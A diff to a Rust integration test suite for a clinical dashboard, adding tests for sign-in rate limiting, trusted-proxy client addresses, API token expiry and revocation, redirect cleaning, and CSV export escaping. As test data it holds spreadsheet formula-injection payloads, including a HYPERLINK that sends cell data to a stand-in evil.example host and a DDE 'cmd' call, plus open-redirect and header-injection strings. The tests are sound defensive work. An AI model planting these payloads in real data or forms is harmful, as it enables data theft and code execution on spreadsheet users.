@@ -1,15 +1,18 @@
 //! The dashboard and the scoped API over real HTTP on loopback, against a real SQLite store:
 //! sign-in and its refusals (same message for a wrong password and an unknown user, rate
-//! limiting), CSRF, session cookies, scope for every role on pages, CSV, FHIR and the API,
-//! and the audit log.
+//! limiting per name and client, parallel guesses, a flood from one client, the client's
+//! address behind a trusted proxy), CSRF, session cookies, `next`, the `Host` check, caching
+//! headers, scope for every role on pages, CSV, FHIR and the API, CSV formula guards, API
+//! tokens (expiry, revocation, re-entered password, password change) and the audit log.
 
 use std::sync::Arc;
 
 use reqwest::StatusCode;
 use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
 use serde_json::Value;
-use vigil_cloud::api::{ApiState, SiteInfo, router};
-use vigil_cloud::auth::{self, BAD_LOGIN, MAX_FAILURES, Role};
+use vigil_cloud::api::{ApiState, ClientConn, SiteInfo, router};
+use vigil_cloud::auth::{self, BAD_LOGIN, DEFAULT_TOKEN_DAYS, FREE_ATTEMPTS, Role};
+use vigil_cloud::config::HttpConfig;
 use vigil_cloud::metrics::Metrics;
 use vigil_cloud::store::CloudStore;
 use vigil_shared::chunk::Chunk;
@@ -158,6 +161,23 @@ struct Server {
 
 impl Server {
     async fn start() -> Server {
+        Server::start_with(HttpConfig::default()).await
+    }
+
+    /// A server whose `[http]` section names the given trusted proxies.
+    async fn behind(trusted_proxies: &[&str]) -> Server {
+        let toml = format!(
+            "trusted_proxies = [{}]",
+            trusted_proxies
+                .iter()
+                .map(|p| format!("{p:?}"))
+                .collect::<Vec<_>>()
+                .join(", ")
+        );
+        Server::start_with(toml::from_str(&toml).unwrap()).await
+    }
+
+    async fn start_with(http: HttpConfig) -> Server {
         let dir = tempfile::tempdir().unwrap();
         let store = Arc::new(CloudStore::open(&dir.path().join("cloud.db")).unwrap());
         let fixtures = [
@@ -197,13 +217,14 @@ impl Server {
             token: SERVICE_TOKEN.into(),
             sites: sites(),
             metrics: Arc::new(Metrics::default()),
+            http,
         });
         let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
         let addr = listener.local_addr().unwrap();
         tokio::spawn(async move {
             axum::serve(
                 listener,
-                app.into_make_service_with_connect_info::<std::net::SocketAddr>(),
+                app.into_make_service_with_connect_info::<ClientConn>(),
             )
             .await
         });
@@ -375,22 +396,145 @@ async fn wrong_password_and_unknown_user_get_the_same_answer_then_a_rate_limit()
     };
     assert_eq!(message(&wrong_text), message(&unknown_text));
 
-    // Failures for one name are counted; past the limit even the right password is refused
-    // without being checked.
-    for _ in 1..MAX_FAILURES {
+    // Failures for one name from one client are counted; past the free attempts even the
+    // right password is refused without being checked, and the page says how long to wait.
+    for _ in 1..FREE_ATTEMPTS {
         let res = s.try_login("rm-central", "still wrong").await;
         assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
     }
     let limited = s.try_login("rm-central", PASSWORD).await;
     assert_eq!(limited.status(), StatusCode::TOO_MANY_REQUESTS);
     assert!(set_cookie(&limited, "vigil_session").is_none());
+    let retry: u64 = limited.headers()["retry-after"]
+        .to_str()
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert!(retry >= 1, "{retry}");
     assert!(
         limited
             .text()
             .await
             .unwrap()
-            .contains("too many failed sign-ins")
+            .contains("too many failed sign-ins; wait")
     );
+}
+
+/// Sends `n` sign-in attempts for `user` at once, all with wrong passwords except the one at
+/// `right` (if any), from the client `forwarded_for` claims (through a trusted proxy), and
+/// returns the statuses.
+async fn parallel_guesses(
+    s: &Server,
+    user: &str,
+    n: usize,
+    right: Option<usize>,
+    forwarded_for: Option<&str>,
+) -> Vec<StatusCode> {
+    let (cookie, csrf) = s.login_form().await;
+    let mut tasks = tokio::task::JoinSet::new();
+    for k in 0..n {
+        let password = if Some(k) == right {
+            PASSWORD.to_owned()
+        } else {
+            format!("wrong guess number {k}")
+        };
+        let body = format!(
+            "username={user}&password={}&csrf={csrf}&next=%2F",
+            vigil_shared::ui::url_encode(&password)
+        );
+        let mut req = s
+            .client
+            .post(format!("{}/login", s.base))
+            .header("content-type", "application/x-www-form-urlencoded")
+            .header(COOKIE, cookie.clone())
+            .body(body);
+        if let Some(xff) = forwarded_for {
+            req = req.header("x-forwarded-for", xff);
+        }
+        tasks.spawn(async move { req.send().await.unwrap().status() });
+    }
+    tasks.join_all().await
+}
+
+#[tokio::test]
+async fn parallel_guesses_get_no_more_checks_than_allowed() {
+    let s = Server::start().await;
+    // Sixty guesses at once, the right password the 31st: the limiter reserves each attempt
+    // before the password is checked, so only the free attempts are evaluated.
+    let statuses = parallel_guesses(&s, "rm-central", 60, Some(30), None).await;
+    let count = |code: StatusCode| statuses.iter().filter(|s| **s == code).count();
+    let (refused, signed_in, limited) = (
+        count(StatusCode::UNAUTHORIZED),
+        count(StatusCode::SEE_OTHER),
+        count(StatusCode::TOO_MANY_REQUESTS),
+    );
+    assert_eq!(refused + signed_in + limited, 60, "{statuses:?}");
+    assert!(
+        refused + signed_in <= FREE_ATTEMPTS as usize,
+        "{refused} refused and {signed_in} signed in: more evaluated than allowed"
+    );
+    assert!(signed_in <= 1);
+    assert!(limited >= 60 - FREE_ATTEMPTS as usize);
+}
+
+#[tokio::test]
+async fn a_flood_from_one_client_does_not_lock_the_user_out_elsewhere() {
+    // Behind the recommended proxy on loopback: clients told apart by X-Forwarded-For.
+    let s = Server::behind(&["127.0.0.1"]).await;
+    let attacker = Some("203.0.113.66");
+    let statuses = parallel_guesses(&s, "rm-central", 60, None, attacker).await;
+    let evaluated = statuses
+        .iter()
+        .filter(|c| **c == StatusCode::UNAUTHORIZED)
+        .count();
+    let limited = statuses
+        .iter()
+        .filter(|c| **c == StatusCode::TOO_MANY_REQUESTS)
+        .count();
+    assert_eq!(evaluated + limited, 60, "{statuses:?}");
+    assert!(
+        evaluated <= FREE_ATTEMPTS as usize,
+        "{evaluated} of the flood's guesses were checked"
+    );
+    // The user at the clinic, another client, signs in at once.
+    let statuses = parallel_guesses(&s, "rm-central", 1, Some(0), Some("198.51.100.7")).await;
+    assert_eq!(statuses, [StatusCode::SEE_OTHER]);
+}
+
+#[tokio::test]
+async fn the_client_address_comes_from_a_trusted_proxy_only() {
+    // (trusted proxies, X-Forwarded-For sent, address expected in the audit log)
+    let cases: [(&[&str], Option<&str>, &str); 5] = [
+        // Not behind a trusted proxy: the header is the client's own claim, ignored.
+        (&["10.9.9.9"], Some("198.51.100.7"), "127.0.0.1"),
+        (&[], Some("198.51.100.7"), "127.0.0.1"),
+        // Behind one: the right-most address that is not a trusted proxy.
+        (&["127.0.0.1"], Some("198.51.100.7"), "198.51.100.7"),
+        (
+            &["127.0.0.1", "10.0.0.0/8"],
+            Some("6.6.6.6, 198.51.100.7, 10.1.2.3"),
+            "198.51.100.7",
+        ),
+        (&["127.0.0.1"], None, "127.0.0.1"),
+    ];
+    for (trusted, xff, expected) in cases {
+        let s = Server::behind(trusted).await;
+        let session = s.login("rm-central").await;
+        let mut req = s
+            .client
+            .get(format!("{}/sessions/s-austin-1", s.base))
+            .header(COOKIE, &session);
+        if let Some(xff) = xff {
+            req = req.header("x-forwarded-for", xff);
+        }
+        assert_eq!(req.send().await.unwrap().status(), StatusCode::OK);
+        let (_, entries) = s.store.audit_log(10, 0).unwrap();
+        let entry = entries
+            .iter()
+            .find(|e| e.action == "view session")
+            .expect("an audit entry");
+        assert_eq!(entry.ip, expected, "trusted {trusted:?}, sent {xff:?}");
+    }
 }
 
 #[tokio::test]
@@ -495,7 +639,8 @@ async fn a_regional_manager_sees_only_their_region_everywhere() {
 #[tokio::test]
 async fn api_tokens_carry_their_users_scope() {
     let s = Server::start().await;
-    let nurse = auth::issue_api_token(&s.store, "nurse-austin", "t", T0).unwrap();
+    let nurse =
+        auth::issue_api_token(&s.store, "nurse-austin", "t", DEFAULT_TOKEN_DAYS, T0).unwrap();
     let (status, body) = s.api("/api/v1/sessions/s-florida-1", &nurse).await;
     assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
     let (unknown_status, unknown) = s.api("/api/v1/sessions/s-nowhere", &nurse).await;
@@ -620,7 +765,8 @@ async fn reads_of_patient_data_are_audited_with_who_and_where() {
     let rm = s.login("rm-central").await;
     assert_eq!(s.page("/sessions/s-austin-1", &rm).await.0, StatusCode::OK);
     assert_eq!(s.page("/sessions.csv", &rm).await.0, StatusCode::OK);
-    let nurse = auth::issue_api_token(&s.store, "nurse-austin", "t", T0).unwrap();
+    let nurse =
+        auth::issue_api_token(&s.store, "nurse-austin", "t", DEFAULT_TOKEN_DAYS, T0).unwrap();
     assert_eq!(
         s.api("/api/v1/sessions/s-austin-2", &nurse).await.0,
         StatusCode::OK
@@ -747,7 +893,11 @@ async fn room_activity_counts_today_and_running_in_scope() {
             T0,
         )
         .unwrap();
-    let all = s.store.room_activity(T0, None).unwrap();
+    let scope_of = |name: &str| {
+        let user = s.store.user_by_name(name).unwrap().unwrap();
+        auth::principal(&user, &sites()).unwrap().scope().clone()
+    };
+    let all = s.store.room_activity(&scope_of("admin"), T0).unwrap();
     let rows: Vec<(&str, &str, u64, u64)> = all
         .iter()
         .map(|a| {
@@ -770,12 +920,368 @@ async fn room_activity_counts_today_and_running_in_scope() {
     // Since after the first sessions started; and a region's scope.
     let later = s
         .store
-        .room_activity(T0 + 1, Some(&["austin".to_owned()]))
+        .room_activity(&scope_of("rm-central"), T0 + 1)
         .unwrap();
     let rows: Vec<(&str, u64, u64)> = later
         .iter()
         .map(|a| (a.room.as_str(), a.sessions_today, a.in_progress))
         .collect();
     assert_eq!(rows, [("1", 1, 1), ("2", 1, 0)]);
-    assert!(s.store.room_activity(T0, Some(&[])).unwrap().is_empty());
+    assert_eq!(
+        s.store
+            .room_activity(&scope_of("rm-southeast"), T0)
+            .unwrap()
+            .len(),
+        1
+    );
+}
+
+#[tokio::test]
+async fn csv_exports_neutralise_formulas_from_people_and_peers() {
+    let s = Server::start().await;
+    // A session whose patient id, drug and route, and a side effect typed at the bedside,
+    // hold what a spreadsheet would run.
+    let mut doc = session(
+        "s-hostile",
+        "austin",
+        "1",
+        " =HYPERLINK(\"http://evil.example/?\"&A1)",
+        T0 + 60_000_000,
+    );
+    doc.update_meta(|m| {
+        m.protocol.drug = "\n=cmd|' /C calc'!A0".into();
+        m.protocol.route = "@SUM(A1:A9)".into();
+        m.observations[0].effect = "-2+3".into();
+        m.observations[0].severity = "+mild".into();
+    })
+    .unwrap();
+    s.store
+        .commit_document("s-hostile", DocKind::Session, "austin", doc.automerge(), T0)
+        .unwrap();
+    let admin = s.login("admin").await;
+    let res = s.get("/sessions.csv", Some(&admin)).await;
+    assert_eq!(res.status(), StatusCode::OK);
+    assert_eq!(res.headers()["cache-control"], "no-store");
+    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
+    let csv = res.text().await.unwrap();
+    assert!(
+        csv.contains(",\"' =HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",completed,"),
+        "{csv}"
+    );
+    assert!(
+        csv.contains(",\"'\n=cmd|' /C calc'!A0\",'@SUM(A1:A9),0.5,"),
+        "{csv}"
+    );
+    let (status, csv) = s
+        .page(
+            "/reports/advisories.csv?from=2026-11-01&to=2026-12-31",
+            &admin,
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(
+        csv.lines()
+            .any(|l| l == "austin,3,side_effect,'-2+3,'+mild,1,33.3"),
+        "{csv}"
+    );
+    // No line of any export starts a cell with a formula character.
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            assert!(!cell.trim_start().starts_with(['=', '+', '@']), "{line}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn next_after_sign_in_stays_on_this_site() {
+    let s = Server::start().await;
+    // (next as sent, where the browser goes)
+    let cases = [
+        ("/sessions?site=austin", "/sessions?site=austin"),
+        ("//evil.example/", "/"),
+        ("/\\evil.example/", "/"),
+        ("/\t/evil.example/", "/"),
+        ("/\n/x", "/"),
+        ("/\r\nSet-Cookie: x=y", "/"),
+        ("https://evil.example/", "/"),
+        ("/caf\u{e9}", "/"),
+    ];
+    for (next, expected) in cases {
+        let (cookie, csrf) = s.login_form().await;
+        let res = s
+            .post(
+                "/login",
+                Some(&cookie),
+                &[
+                    ("username", "admin"),
+                    ("password", PASSWORD),
+                    ("csrf", &csrf),
+                    ("next", next),
+                ],
+            )
+            .await;
+        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{next:?}");
+        assert_eq!(res.headers()[LOCATION], expected, "{next:?}");
+        // The sign-in page carries the same cleaned value in its form.
+        let res = s
+            .get(
+                &format!("/login?next={}", vigil_shared::ui::url_encode(next)),
+                None,
+            )
+            .await;
+        assert_eq!(res.status(), StatusCode::OK, "{next:?}");
+        let html = res.text().await.unwrap();
+        assert_eq!(
+            hidden(&html, "next"),
+            vigil_shared::ui::escape(expected),
+            "{next:?}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn the_api_body_limit_does_not_apply_to_the_dashboards_forms() {
+    let s = Server::start().await;
+    // A sign-in form with a long (but legal) password: read, checked, refused as wrong.
+    let long = "x".repeat(3000);
+    let res = s.try_login("admin", &long).await;
+    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
+    // An upload to a form is refused before anything reads it.
+    let (cookie, _) = s.login_form().await;
+    let res = s
+        .client
+        .post(format!("{}/login", s.base))
+        .header(COOKIE, cookie)
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body(vec![b'a'; 64 * 1024])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
+    // The API keeps its own small limit.
+    let res = s
+        .client
+        .post(format!("{}/api/v1/sessions", s.base))
+        .bearer_auth(SERVICE_TOKEN)
+        .body(vec![b'x'; 2048])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
+}
+
+/// The account page's forms: its CSRF token and the ids of the listed tokens.
+async fn account(s: &Server, session: &str) -> (String, Vec<String>) {
+    let (status, html) = s.page("/account", session).await;
+    assert_eq!(status, StatusCode::OK);
+    let ids = html
+        .split("name=\"id\" value=\"")
+        .skip(1)
+        .map(|rest| rest.split('"').next().unwrap().to_owned())
+        .collect();
+    (hidden(&html, "csrf"), ids)
+}
+
+/// Makes a token on the account page; returns the status and, when made, the token.
+async fn mint(
+    s: &Server,
+    session: &str,
+    password: &str,
+    days: &str,
+) -> (StatusCode, Option<String>) {
+    let (csrf, _) = account(s, session).await;
+    let res = s
+        .post(
+            "/account/tokens",
+            Some(session),
+            &[
+                ("csrf", &csrf),
+                ("label", "reports <script>"),
+                ("days", days),
+                ("password", password),
+            ],
+        )
+        .await;
+    let status = res.status();
+    let html = res.text().await.unwrap();
+    let token = html
+        .split("id=\"new-token\">")
+        .nth(1)
+        .map(|rest| rest.split('<').next().unwrap().to_owned());
+    (status, token)
+}
+
+#[tokio::test]
+async fn api_tokens_need_the_password_expire_and_can_be_revoked() {
+    let s = Server::start().await;
+    let session = s.login("rm-central").await;
+    // Without the right password no token is made.
+    let (status, token) = mint(&s, &session, "not my password", "30").await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert!(token.is_none());
+    let (status, _) = mint(&s, &session, PASSWORD, "0").await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    let (status, _) = mint(&s, &session, PASSWORD, "forever").await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    let user = s.store.user_by_name("rm-central").unwrap().unwrap();
+    assert!(s.store.api_tokens(user.id).unwrap().is_empty());
+
+    // With it, a token that works, listed with its label (escaped), expiry and last use.
+    let (status, token) = mint(&s, &session, PASSWORD, "30").await;
+    assert_eq!(status, StatusCode::OK);
+    let token = token.expect("a new token");
+    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
+    let listed = s.store.api_tokens(user.id).unwrap();
+    assert_eq!(listed.len(), 1);
+    assert_eq!(listed[0].label, "reports <script>");
+    assert_eq!(
+        listed[0].expires_us - listed[0].created_us,
+        30 * 86_400_000_000
+    );
+    assert!(listed[0].last_used_us.is_some(), "the use was recorded");
+    let (_, html) = s.page("/account", &session).await;
+    assert!(html.contains("reports &lt;script&gt;") && !html.contains("reports <script>"));
+    assert!(!html.contains("never"), "{html}");
+
+    // An expired token is refused like an unknown one.
+    let now = vigil_cloud::api::now_us();
+    let old =
+        auth::issue_api_token(&s.store, "rm-central", "old", 1, now - 2 * 86_400_000_000).unwrap();
+    let (status, body) = s.api("/api/v1/sessions", &old).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    assert!(
+        body["error"].as_str().unwrap().contains("expired"),
+        "{body}"
+    );
+    let (_, html) = s.page("/account", &session).await;
+    assert!(html.contains("(expired)"));
+
+    // Revoked on the account page (the form needs its CSRF token), then refused.
+    let (csrf, ids) = account(&s, &session).await;
+    assert_eq!(ids.len(), 2);
+    let newest = &ids[0];
+    let res = s
+        .post(
+            "/account/tokens/revoke",
+            Some(&session),
+            &[("csrf", "0000"), ("id", newest)],
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    assert_eq!(
+        s.api("/api/v1/sessions", &old).await.0,
+        StatusCode::UNAUTHORIZED
+    );
+    let still = s.store.api_tokens(user.id).unwrap();
+    let keep = still
+        .iter()
+        .find(|t| t.label == "reports <script>")
+        .unwrap()
+        .id
+        .to_string();
+    let res = s
+        .post(
+            "/account/tokens/revoke",
+            Some(&session),
+            &[("csrf", &csrf), ("id", &keep)],
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::SEE_OTHER);
+    assert_eq!(res.headers()[LOCATION], "/account");
+    assert_eq!(
+        s.api("/api/v1/sessions", &token).await.0,
+        StatusCode::UNAUTHORIZED
+    );
+    // Another user's token cannot be revoked from this account.
+    let other = s.store.user_by_name("admin").unwrap().unwrap();
+    let theirs = auth::issue_api_token(&s.store, "admin", "x", 30, now).unwrap();
+    let their_id = s.store.api_tokens(other.id).unwrap()[0].id.to_string();
+    let res = s
+        .post(
+            "/account/tokens/revoke",
+            Some(&session),
+            &[("csrf", &csrf), ("id", &their_id)],
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::NOT_FOUND);
+    assert_eq!(s.api("/api/v1/sessions", &theirs).await.0, StatusCode::OK);
+}
+
+#[tokio::test]
+async fn a_password_change_revokes_tokens_and_ends_sessions() {
+    let s = Server::start().await;
+    let session = s.login("rm-central").await;
+    let elsewhere = s.login("rm-central").await;
+    let (_, token) = mint(&s, &session, PASSWORD, "90").await;
+    let token = token.unwrap();
+    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
+    let (csrf, _) = account(&s, &session).await;
+    let new_password = "a brand new password";
+    let change = |current: &'static str, new: &'static str, repeat: &'static str| {
+        let (s, session, csrf) = (&s, session.clone(), csrf.clone());
+        async move {
+            s.post(
+                "/account/password",
+                Some(&session),
+                &[
+                    ("csrf", &csrf),
+                    ("current", current),
+                    ("new", new),
+                    ("repeat", repeat),
+                ],
+            )
+            .await
+            .status()
+        }
+    };
+    // Refused without the current password, with a mismatch or a too short one.
+    assert_eq!(
+        change("wrong password!", new_password, new_password).await,
+        StatusCode::FORBIDDEN
+    );
+    assert_eq!(
+        change(PASSWORD, new_password, "something else").await,
+        StatusCode::BAD_REQUEST
+    );
+    assert_eq!(
+        change(PASSWORD, "short", "short").await,
+        StatusCode::BAD_REQUEST
+    );
+    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
+    // Changed: every session and token of the user ends.
+    assert_eq!(
+        change(PASSWORD, new_password, new_password).await,
+        StatusCode::SEE_OTHER
+    );
+    assert_eq!(
+        s.api("/api/v1/sessions", &token).await.0,
+        StatusCode::UNAUTHORIZED
+    );
+    for cookie in [&session, &elsewhere] {
+        assert_eq!(
+            s.get("/", Some(cookie)).await.status(),
+            StatusCode::SEE_OTHER
+        );
+    }
+    assert_eq!(
+        s.try_login("rm-central", PASSWORD).await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    assert_eq!(
+        s.try_login("rm-central", new_password).await.status(),
+        StatusCode::SEE_OTHER
+    );
+    // The CLI's password reset (an admin's) revokes tokens as well.
+    let user = s.store.user_by_name("nurse-austin").unwrap().unwrap();
+    let nurse = auth::issue_api_token(&s.store, "nurse-austin", "t", 30, T0).unwrap();
+    assert!(
+        s.store
+            .set_password("nurse-austin", &auth::hash_password(new_password).unwrap())
+            .unwrap()
+    );
+    assert!(s.store.api_tokens(user.id).unwrap().is_empty());
+    assert_eq!(
+        s.api("/api/v1/sessions", &nurse).await.0,
+        StatusCode::UNAUTHORIZED
+    );
 }
